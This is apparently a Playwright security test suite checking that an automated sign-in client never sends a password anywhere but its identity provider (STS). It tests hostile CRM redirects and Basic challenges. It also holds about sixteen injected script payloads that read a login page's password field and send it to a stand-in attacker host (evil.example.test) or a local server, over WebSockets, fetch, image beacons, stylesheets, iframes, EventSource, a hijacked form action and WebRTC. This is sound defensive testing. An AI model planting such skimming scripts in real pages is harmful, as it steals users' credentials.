/** The password goes to the STS and nowhere else: hostile servers record every byte, and every writing of the password is looked for in them. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { goodPassword, signInAbroad, type World, type WorldWishes } from '../../probes/testing/foreign/foreign-world';
import type { SignInView } from '../../probes/testing/foreign/sign-in-pages';
import { signInPages } from '../../probes/testing/foreign/sign-in-pages';
import { redirect, type Reply, type VirtualHosts } from '../../probes/testing/foreign/virtual-hosts';
import { writingsOf } from '../../runs/testing/independent-scanner';

const full = process.env.SECURITY_FULL === '1';
let origin = '';
let socketBytes = '';

/** A plain server: web sockets and http arrive here, and everything is written down. */
const plain = createServer((request, response) => {
  socketBytes += `${request.method} ${request.url} ${request.rawHeaders.join(' ')}`;
  request.on('data', (data: Buffer) => (socketBytes += data.toString('latin1')));
  response.setHeader('Access-Control-Allow-Origin', '*').end('thanks');
});
plain.on('upgrade', (request, socket) => {
  socketBytes += `UPGRADE ${request.url}`;
  socket.on('error', () => undefined).end('HTTP/1.1 400 No\r\n\r\n');
});
test.beforeAll(() => new Promise<void>((resolve) => plain.listen(0, '127.0.0.1', resolve)));
test.afterAll(() => new Promise<void>((resolve) => void (plain.closeAllConnections(), plain.close(() => resolve()))));
test.beforeEach(() => void (socketBytes = ''));
const plainOrigin = (): string => `127.0.0.1:${(plain.address() as AddressInfo).port}`;

const before = (hosts: VirtualHosts): void => {
  origin = hosts.origin('evil.example.test');
  hosts.put('evil.example.test', () => ({ headers: { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' }, body: 'thanks' }));
};

/** No byte of any request to anybody but the STS holds the password in any writing; counts what was looked through. */
function expectNothingLeft({ hosts }: World, threat: string): void {
  const strangers = hosts.arrivals.filter(({ host }) => host !== 'idp.example.test');
  const bytes = [...strangers.map(({ raw }) => raw), socketBytes].map((raw) => [raw, decode(raw), decode(decode(raw))].join('\n')).join('\n');
  const writings = writingsOf(goodPassword).filter((writing) => bytes.includes(writing.bytes.toString('utf8')));
  test
    .info()
    .annotations.push({ type: 'threat', description: threat }, { type: 'attempts', description: '1' }, { type: 'leaks', description: String(writings.length) });
  expect(writings.map(({ name }) => name)).toEqual([]);
}

const decode = (text: string): string =>
  text.replace(/\+/g, ' ').replace(/(%[0-9a-f]{2})+/gi, (run) => Buffer.from(run.replace(/%/g, ''), 'hex').toString('utf8'));

test.describe('CRM leads somewhere else', () => {
  const form = (action: string): Reply => signInPages.plain({ action, error: null, step: 'user' });
  const places: readonly (readonly [string, (hosts: VirtualHosts) => string, RegExp])[] = [
    ['a look-alike host', (hosts) => `${hosts.origin('evil.example.test')}/adfs/ls/`, /evil\.example\.test/],
    ['plain http', () => `http://${plainOrigin()}/adfs/ls/`, /http:\/\/127\.0\.0\.1|not given|stopped/i],
    ['the STS’s own name over http', (hosts) => hosts.origin('idp.example.test').replace('https:', 'http:'), /http|answer/i],
    ['an IP address', (hosts) => `https://127.0.0.1:${new URL(hosts.origin('idp.example.test')).port}/wsfed`, /127\.0\.0\.1/],
  ];
  for (const [named, place, why] of places)
    test(`to ${named}: nothing is typed, and the verdict says where`, async () => {
      let goal = '';
      const world = await signInAbroad({
        before: (hosts) => {
          before(hosts);
          goal = place(hosts);
          hosts.put('evil.example.test', () => form(`${origin}/take`));
        },
        rp: { send: () => redirect(goal) },
      });
      expect(world.journey).toMatchObject({ signedIn: 'no', credentialSubmissions: 0 });
      expect(world.journey.why).toMatch(why);
      expectNothingLeft(world, `CRM redirects to ${named}`);
    });

  test('to a Basic challenge of its own: it is not answered', async () => {
    const world = await signInAbroad({
      before,
      rp: { send: () => ({ status: 401, headers: { 'WWW-Authenticate': 'Basic realm="CRM"' }, body: 'Sign in' }) },
    });
    expect(world.journey).toMatchObject({ signedIn: 'no', credentialSubmissions: 0 });
    expect(world.hosts.arrivals.filter(({ headers }) => headers.authorization !== undefined)).toEqual([]);
    expectNothingLeft(world, 'a Basic challenge from CRM');
  });

  test('to a Basic challenge of a stranger: it is not answered either', async () => {
    const world = await signInAbroad({
      before: (hosts) => {
        before(hosts);
        hosts.put('evil.example.test', () => ({ status: 401, headers: { 'WWW-Authenticate': 'Basic realm="STS"' }, body: 'Sign in' }));
      },
      rp: { send: () => redirect(`${origin}/adfs/ls/`) },
    });
    expect(world.journey).toMatchObject({ signedIn: 'no', credentialSubmissions: 0 });
    expectNothingLeft(world, 'a Basic challenge from a stranger');
  });
});

test.describe('the page of the STS was tampered with', () => {
  const withScript =
    (script: string) =>
    (view: SignInView): Reply => ({ body: (signInPages.plain(view).body ?? '').replace('</body>', `<script>${script}</script></body>`) });
  const take = "const p = document.querySelector('[type=password]').value;";
  const onSubmit = (action: string): string => `document.forms[0].addEventListener('submit', (event) => { ${take} ${action} });`;
  const stay = 'event.preventDefault();';
  /** E is the attacker's origin, W a plain server's address. */
  const attempts: readonly (readonly [string, string])[] = [
    ['a web socket with the password in its address', onSubmit(`${stay} try { new WebSocket('ws://W/?p=' + encodeURIComponent(p)) } catch { }`)],
    ['a web socket opened beforehand', `let s; try { s = new WebSocket('ws://W/open') } catch { } ${onSubmit(`${stay} try { s.send(p) } catch { }`)}`],
    ['a web socket of a worker', onSubmit(`${stay} new Worker(URL.createObjectURL(new Blob(['new WebSocket("ws://W/?p=' + encodeURIComponent(p) + '")'])))`)],
    [
      'a web socket of a frame',
      onSubmit(
        `${stay} const f = document.createElement('iframe'); document.body.append(f); ` +
          `try { new f.contentWindow.WebSocket('ws://W/?p=' + encodeURIComponent(p)) } catch { }`,
      ),
    ],
    ['XMLHttpRequest', onSubmit(`${stay} const x = new XMLHttpRequest(); x.open('POST', 'E/take'); x.send(p);`)],
    ['form-data', onSubmit(`${stay} fetch('E/take', { method: 'POST', body: new FormData(document.forms[0]) });`)],
    ['a form in a new window', onSubmit("document.forms[0].target = '_blank'; document.forms[0].action = 'E/take';")],
    ['a style sheet', onSubmit(`${stay} document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href="E/take?p=' + encodeURIComponent(p) + '">')`)],
    [
      'an image while typing',
      `document.querySelector('[type=password]').addEventListener('input', () => { ${take} new Image().src = 'E/take?p=' + ` +
        `btoa(unescape(encodeURIComponent(p))); });`,
    ],
    [
      'a frame that listens',
      onSubmit(
        `${stay} document.body.insertAdjacentHTML('beforeend', '<iframe src="E/take#' + '"></iframe>` +
          `<iframe src="E/take?p=' + encodeURIComponent(p) + '"></iframe>')`,
      ),
    ],
    ['plain http', onSubmit(`${stay} fetch('http://W/take', { method: 'POST', mode: 'no-cors', body: p })`)],
    ['a service worker', `navigator.serviceWorker?.register('/sw.js').catch(() => 0); ${onSubmit("document.forms[0].action = 'E/take'")}`],
    ['an event source', onSubmit(`${stay} new EventSource('E/take?p=' + encodeURIComponent(p))`)],
    ['a button of its own', onSubmit('').replace(/^/, "const b = document.querySelector('button'); b.setAttribute('formaction', 'E/take');")],
    ['a base address', "document.head.insertAdjacentHTML('afterbegin', '<base href=\"E/\">'); document.forms[0].setAttribute('action', '/take');"],
    [
      'WebRTC',
      onSubmit(
        `${stay} try { const r = new RTCPeerConnection({ iceServers: [{ urls: 'stun:W', username: p, credential: p }] }); r.createDataChannel('x'); ` +
          `r.createOffer().then((o) => r.setLocalDescription(o)) } catch { }`,
      ),
    ],
  ];
  for (const [index, [named, script]] of attempts.entries()) {
    if (!full && index > 3 && index % 4 !== 0) continue;
    test(`with ${named}: no byte of the password leaves`, async () => {
      const wishes: WorldWishes = {
        before,
        deadlineMs: 12_000,
        idp: {
          page: (view) =>
            withScript(script.replaceAll('E/', `${origin}/`).replaceAll('W/', `${plainOrigin()}/`).replaceAll("stun:W'", `stun:${plainOrigin()}'`))(view),
        },
      };
      const world = await signInAbroad(wishes);
      expect(world.journey.signedIn).not.toBe('yes');
      expect(world.journey.why.length).toBeGreaterThan(20);
      expectNothingLeft(world, `the STS page leaks by ${named}`);
    });
  }
});
